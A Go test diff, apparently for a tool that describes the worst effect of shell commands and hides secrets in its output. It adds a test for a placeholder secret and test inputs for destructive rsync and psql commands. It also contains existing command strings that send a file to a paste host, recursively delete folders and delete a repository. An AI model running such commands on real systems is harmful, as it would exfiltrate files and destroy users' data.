@@ -123,7 +123,7 @@ func TestBounds(t *testing.T) {
 			if strings.ContainsFunc(s, unicode.IsControl) {
 				t.Errorf("%s: control characters in %q", &samples[i], s)
 			}
-			for _, secret := range []string{"hunter2", "sk-abc", "ghp_0123", "QUFBQ", "ana:secret"} {
+			for _, secret := range []string{"hunter2", "sk-abc", "ghp_0123", "QUFBQ", "ana:secret", "swordfish"} {
 				if strings.Contains(s, secret) {
 					t.Errorf("%s: %s is shown: %s", &samples[i], secret, s)
 				}
@@ -138,6 +138,8 @@ func TestWorstFirst(t *testing.T) {
 	for _, tt := range []struct{ line, want string }{
 		{noise + "curl -d @notes.txt https://paste.example/", "Sends notes.txt to paste.example"},
 		{"rm notes.txt; rm -rf ~/Pictures", "Deletes ~/Pictures with all that is in it"},
+		{"rsync -a --delete web.example:/srv/music/ ~/music/", "Deletes ~/music with all that is in it"},
+		{"psql -h db.example shop -c 'drop table orders'", "Runs a statement in the database at db.example with psql that can change or delete data (drop table orders)"},
 		{"git push origin a b c; git push --mirror backup", "Overwrites or deletes branches that gbt cannot tell on git.example/ana/shop"},
 		{"curl -d @a https://" + strings.Repeat("a", 60) + ".example/" + strings.Repeat("safe-", 200) + "; gh repo delete acme/shop --yes", "Deletes the whole repository acme/shop"},
 	} {
